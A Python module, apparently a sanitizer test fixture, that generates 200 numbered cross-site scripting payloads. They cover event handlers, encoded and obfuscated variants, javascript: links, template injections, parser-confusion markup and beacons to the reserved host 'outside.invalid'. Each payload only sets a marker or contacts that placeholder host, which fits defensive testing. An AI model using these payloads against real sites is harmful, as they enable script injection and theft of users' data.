"""Two hundred pieces of markup that run a script, or ask another host for something, wherever they stand as markup."""

from __future__ import annotations

from typing import Final

OUTSIDE: Final = "outside.invalid"
"""The host that they ask; RFC 2606 keeps the name from ever being one."""

# `top.hacked=N` says which one ran, out of frames, too; N stands for the number.
_HANDLERS: Final = (
    "<img src=x onerror=top.hacked=N>", "<svg onload=top.hacked=N>", "<svg/onload=top.hacked=N>",
    "<body onload=top.hacked=N>", "<iframe onload=top.hacked=N></iframe>", "<details open ontoggle=top.hacked=N>x</details>",
    "<video><source onerror=top.hacked=N></video>", "<audio src=x onerror=top.hacked=N></audio>",
    "<input autofocus onfocus=top.hacked=N>", "<select autofocus onfocus=top.hacked=N></select>",
    "<style onload=top.hacked=N></style>", "<object data=x: onerror=top.hacked=N></object>",
    "<svg><animate onbegin=top.hacked=N attributeName=x dur=1s></svg>", "<svg><set onbegin=top.hacked=N attributename=x /></svg>",
    "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=top.hacked=N>x</b>",
    "<script src=x onerror=top.hacked=N></script>", "<link rel=stylesheet href=x onerror=top.hacked=N>",
)  # fmt: skip
# What the markup may stand in, and has to end first.
_ENDS: Final = (
    "", '">', "'>", "</title>", "</textarea></template>", "</script></style>", "</mark></blockquote></p></td></tr></table>", "-->",
)  # fmt: skip
_SCRIPTS: Final = (
    "<script>top.hacked=N</script>", "<ScRiPt>top.hacked=N</sCrIpT>", "<script/x>top.hacked=N</script >",
    "<scr<script>ipt>top.hacked=N</scr</script>ipt>", "<svg><script>top.hacked=N</script></svg>",
    "<script src=data:,top.hacked=N></script>", "<script src=//outside.invalid/N></script>",
    "<script type=module>top.hacked=N</script>", "<math><mtext><script>top.hacked=N</script></mtext></math>",
    "<iframe srcdoc='<script>top.hacked=N</script>'></iframe>", "<iframe srcdoc='&lt;img src=x onerror=top.hacked=N&gt;'></iframe>",
    "<iframe src=javascript:top.hacked=N></iframe>", "<iframe src='data:text/html,<script>top.hacked=N</script>'></iframe>",
)  # fmt: skip
_ENCODED: Final = (
    "&lt;img src=x onerror=top.hacked=N&gt;", "&#60;img src=x onerror=top.hacked=N&#62;", "&amp;lt;svg onload=top.hacked=N&amp;gt;",
    "\\u003cimg src=x onerror=top.hacked=N\\u003e", "\\x3cimg src=x onerror=top.hacked=N\\x3e", "%3Cimg src=x onerror=top.hacked=N%3E",
    "+ADw-script+AD4-top.hacked=N+ADw-/script+AD4-", "＜img src=x onerror=top.hacked=N＞",
    "<img src=x onerror=&#116;op.hacked=N>", "<img src=x one\u200brror=top.hacked=N onerror=top.hacked=N>",
)  # fmt: skip
_LINKS: Final = (
    "[一](javascript:top.hacked=N)", "![一](http://outside.invalid/N)", "<javascript:top.hacked=N>", "[一]: javascript:top.hacked=N",
    "<a href=javascript:top.hacked=N autofocus onfocus=this.click()>一</a>", "<a href='java&#9;script:top.hacked=N'>一</a>",
    "<form action=javascript:top.hacked=N><button>一</button></form>", "<svg><a xlink:href=javascript:top.hacked=N><text>一</text></a></svg>",
    "<meta http-equiv=refresh content='0;url=javascript:top.hacked=N'>", "<img src=`javascript:top.hacked=N`>",
)  # fmt: skip
_TEMPLATES: Final = (
    "${top.hacked=N}", "{{top.hacked=N}}", "`${top.hacked=N}`", "</script>${top.hacked=N}", "{{constructor.constructor('top.hacked=N')()}}",
    "#{top.hacked=N}", "<%= top.hacked=N %>", "{% top.hacked=N %}", "${`${top.hacked=N}`}", '"+(top.hacked=N)+"', "'-(top.hacked=N)-'",
    "{@html '<img src=x onerror=top.hacked=N>'}",
)  # fmt: skip
_ASKING: Final = (
    "<img src=//outside.invalid/N>", "<link rel=stylesheet href=//outside.invalid/N>", "<style>@import '//outside.invalid/N'</style>",
    "<b style=\"background:url('//outside.invalid/N')\">x</b>", "<video poster=//outside.invalid/N></video>",
    "<object data=//outside.invalid/N></object>", "<iframe src=//outside.invalid/N></iframe>", "<embed src=//outside.invalid/N>",
    "<img srcset='//outside.invalid/N 2x'>", "<link rel=preload as=image href=//outside.invalid/N>",
    "<base href=//outside.invalid/><img src=N>", "<svg><image href=//outside.invalid/N /></svg>",
)  # fmt: skip
# Markup that parsers read one way and write another.
_CHANGING: Final = (
    "<noscript><p title='</noscript><img src=x onerror=top.hacked=N>'>", "<math><mtext><table><mglyph><style><img src=x onerror=top.hacked=N>",
    "<svg></p><style><a id='</style><img src=x onerror=top.hacked=N>'>", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=top.hacked=N>",
    "<table><td><select><img src=x onerror=top.hacked=N>", "<!--><img src=x onerror=top.hacked=N>-->", "<![CDATA[><img src=x onerror=top.hacked=N>]]>",
    "<xmp></xmp><img src=x onerror=top.hacked=N>", "<template><s></template><svg onload=top.hacked=N>", "<a <img src=x onerror=top.hacked=N>",
)  # fmt: skip

COUNT: Final = 200


def payloads() -> list[str]:
    """The two hundred, each with its own number from 0 on."""
    rest = (*_SCRIPTS, *_ENCODED, *_LINKS, *_TEMPLATES, *_ASKING, *_CHANGING)
    handlers = [end + handler for end in _ENDS for handler in _HANDLERS][: COUNT - len(rest)]
    return [
        each.replace("=N", f"={number}").replace("/N", f"/{number}") for number, each in enumerate((*rest, *handlers))
    ]
